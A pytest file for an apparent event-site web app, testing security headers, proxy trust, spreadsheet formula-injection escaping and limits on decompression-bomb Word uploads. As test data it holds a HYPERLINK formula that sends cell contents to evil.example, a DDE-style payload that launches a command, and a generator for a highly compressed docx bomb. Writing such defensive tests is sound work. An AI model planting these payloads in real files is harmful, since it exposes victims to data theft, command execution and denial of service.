"""Hostile input and browser-side defences over HTTP (issue 11, findings 5-7; 8 and 11: own modules)."""
import csv
import io

import openpyxl
import pytest

from eventsite import create_app
from eventsite.events.models import Status
from eventsite.extensions import db
from tests.conftest import login, make_test_config
from tests.factories import make_event, make_forum, make_staff, make_user
from tests.registrations.helpers import open_event, register

HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for your badge")'


# --- Finding 5: security headers and trusted proxies -------------------------------------------

def _assert_security_headers(response):
    csp = response.headers["Content-Security-Policy"]
    for directive in ("script-src 'self'", "style-src 'self'", "img-src 'self' data:", "object-src 'none'",
                      "base-uri 'self'", "form-action 'self'", "frame-ancestors 'none'"):
        assert directive in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "camera=(self)" in response.headers["Permissions-Policy"]


@pytest.mark.parametrize("path", ["/", "/account/login", "/no-such-page", "/static/css/site.css",
                                  "/events/no-such-event.ics"])
def test_every_kind_of_response_carries_the_security_headers(client, path):
    response = client.get(path)
    _assert_security_headers(response)
    assert "Strict-Transport-Security" not in response.headers  # development and tests speak plain http


def test_a_manage_page_with_its_token_in_the_url_carries_the_headers(ctx, client):
    organiser, event = open_event()
    participant = make_user()
    registration = register(event, participant)
    db.session.commit()
    response = client.get(f"/r/{registration.token}")
    assert response.status_code == 200
    _assert_security_headers(response)


def test_production_pins_https_with_hsts(database_url, tmp_path):
    app = create_app(make_test_config(database_url, tmp_path, EVENTSITE_ENV="production"))
    response = app.test_client().get("/account/login")
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    _assert_security_headers(response)


def _feed_url(app, headers):
    with app.app_context():
        organiser = make_user()
        forum = make_forum(staff=make_staff())
        event = make_event(forum, organiser=organiser, status=Status.PUBLISHED)
        db.session.commit()
        slug = event.slug
    body = app.test_client().get(f"/events/{slug}.ics", headers=headers).data.decode()
    return next(line for line in body.splitlines() if line.startswith("URL"))


PROXY_HEADERS = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "events.un.org", "X-Forwarded-Port": "443",
                 "X-Forwarded-For": "203.0.113.9"}


def test_behind_a_trusted_tls_proxy_links_are_https_with_the_public_host(app, database_url, tmp_path):
    proxied = create_app(make_test_config(database_url, tmp_path, TRUSTED_PROXIES=1))
    assert "URL:https://events.un.org/events/" in _feed_url(proxied, PROXY_HEADERS)
    # With no proxy declared, anyone could send these headers: they are ignored.
    direct = _feed_url(app, PROXY_HEADERS)
    assert "URL:http://localhost/events/" in direct and "events.un.org" not in direct


def test_the_proxy_count_comes_from_the_environment(tmp_path):
    from eventsite.config import ConfigError, build_config
    assert build_config(tmp_path, {})["TRUSTED_PROXIES"] == 0
    assert build_config(tmp_path, {"TRUSTED_PROXIES": "2"})["TRUSTED_PROXIES"] == 2
    with pytest.raises(ConfigError):
        build_config(tmp_path, {"TRUSTED_PROXIES": "yes"})


# --- Finding 6: formula injection in exports ----------------------------------------------------

def _csv_rows(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _registered_with_formulas(client):
    organiser, event = open_event()
    participant = make_user()
    registration = register(event, participant)
    registration.name = HYPERLINK
    registration.organisation = "@SUM(1+1)*cmd|' /C calc'!A0"
    registration.position = "+1-2"
    db.session.commit()
    login(client, organiser.email)
    return event


@pytest.mark.parametrize("typed", [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2"])
def test_registration_csv_writes_formulas_as_text(ctx, client, typed):
    event = _registered_with_formulas(client)
    rows = _csv_rows(client.get(f"/events/{event.slug}/registrations.csv?columns=name&columns=organisation"
                                "&columns=position").data)
    assert "'" + typed in rows[1]
    assert typed not in rows[1]


def test_registration_xlsx_types_formulas_as_strings(ctx, client):
    event = _registered_with_formulas(client)
    data = client.get(f"/events/{event.slug}/registrations.xlsx?columns=name&columns=organisation"
                      "&columns=position").data
    cells = {cell.value: cell for cell in _xlsx_cells(data)}
    for typed in (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2"):
        assert cells[typed].data_type == "s"  # text, not a formula ("f")
        assert cells[typed].quotePrefix  # Excel keeps it text even when the cell is edited


def test_forum_exports_write_formulas_as_text(ctx, client):
    organiser, event = open_event()
    event.title = "=1+1"
    registration = register(event, make_user())
    registration.name, registration.organisation = "-2+3", "\tTabbed"
    staff = make_staff()
    db.session.commit()
    login(client, staff.email)
    slug = event.forum.slug
    programme = _csv_rows(client.get(f"/forums/{slug}/programme.csv").data)
    assert programme[1][5] == "'=1+1"
    registrations = _csv_rows(client.get(f"/forums/{slug}/registrations.csv").data)
    assert (registrations[1][0], registrations[1][4], registrations[1][6]) == ("'=1+1", "'-2+3", "'\tTabbed")
    for path in (f"/forums/{slug}/programme.xlsx", f"/forums/{slug}/registrations.xlsx"):
        cells = _xlsx_cells(client.get(path).data)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert "=1+1" in [c.value for c in cells]


# --- Finding 7: Word bombs ------------------------------------------------------------------------

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                  'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                  'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
                  '"/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
                  'document.main+xml"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
         'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="word/document.xml"/></Relationships>')


def make_docx(paragraphs: int, text: str = "Background", *, extra_members: int = 0) -> bytes:
    """A minimal Word package with `paragraphs` paragraphs, written in streamed chunks."""
    import zipfile
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        with archive.open("word/document.xml", "w") as part:
            part.write(f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W}><w:body>'.encode())
            row = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()
            block = row * 10_000
            for _ in range(paragraphs // 10_000):
                part.write(block)
            part.write(row * (paragraphs % 10_000))
            part.write(b"</w:body></w:document>")
        for number in range(extra_members):
            archive.writestr(f"customXml/item{number}.bin", b"")
    return buffer.getvalue()


@pytest.fixture(scope="module")
def bomb():
    """3 million paragraphs: about 100 MB of XML in a few hundred KB."""
    return make_docx(3_000_000)


def _summary_event(client):
    from eventsite.accounts.models import Role
    from tests.factories import add_member
    organiser, rapporteur = make_user(), make_user()
    event = make_event(make_forum(), organiser=organiser, status=Status.HELD)
    add_member(event, rapporteur, Role.RAPPORTEUR)
    db.session.commit()
    login(client, rapporteur.email)
    return event


def _concept_note_event(client):
    organiser = make_user()
    event = make_event(make_forum(), organiser=organiser, concept_note=False)
    db.session.commit()
    login(client, organiser.email)
    return event


IMPORTS = {"concept note": (_concept_note_event, "/events/{slug}/concept-note/import"),
           "summary": (_summary_event, "/events/{slug}/summary/import")}


def field_error(page: str, field_id: str) -> str:
    """The error shown beside a field (templates/_forms.html), or "" when there is none."""
    import html
    import re
    found = re.search(rf'<p class="error" id="{re.escape(field_id)}-error">(.*?)</p>', page, re.S)
    return html.unescape(found.group(1)) if found else ""


def _upload(client, which, data, event=None):
    setup, path = IMPORTS[which]
    event = event or setup(client)
    response = client.post(path.format(slug=event.slug), data={"file": (io.BytesIO(data), "note.docx")},
                           content_type="multipart/form-data")
    return response, field_error(response.data.decode(), "file")


@pytest.mark.parametrize("which", IMPORTS)
def test_a_docx_bomb_is_refused_with_a_reason_beside_the_upload(ctx, client, bomb, which, record_property):
    import time
    import tracemalloc
    assert len(bomb) < 1024 * 1024  # small enough to pass the upload size limit
    event = IMPORTS[which][0](client)
    _upload(client, which, make_docx(3), event)  # warm up: imports and translations load once
    tracemalloc.start()
    started = time.perf_counter()
    response, error = _upload(client, which, bomb, event)
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    record_property("seconds", round(elapsed, 3))
    record_property("peak_python_mib", round(peak / 2**20, 1))
    print(f"\n{which}: bomb of {len(bomb) // 1024} KB refused in {elapsed:.3f} s, peak {peak / 2**20:.1f} MiB")
    assert response.status_code == 422
    assert error.startswith("This Word file unpacks to more than 20 MB")


def test_a_docx_with_too_many_paragraphs_is_refused_even_when_small_unpacked(ctx, client):
    response, error = _upload(client, "summary", make_docx(20_000, text="x"))
    assert response.status_code == 422
    assert error.startswith("This Word file has 20000 paragraphs; at most 10000 are accepted.")


def test_a_docx_with_thousands_of_parts_is_refused(ctx, client):
    response, error = _upload(client, "concept note", make_docx(3, extra_members=1500))
    assert response.status_code == 422
    assert error == "This Word file holds 1503 parts; at most 1000 are accepted."


def test_a_docx_compressed_beyond_any_real_document_is_refused(ctx, client):
    from eventsite.core.documents import DocumentRefused, check_docx
    with pytest.raises(DocumentRefused, match="compressed far more than any real document"):
        check_docx(make_docx(100_000, text="x"))  # 4 MB of XML packed into a few KB


def test_a_real_word_file_still_imports(ctx, client):
    response, error = _upload(client, "concept note", make_docx(3, text="Objectives"))
    assert (response.status_code, error) == (200, "")
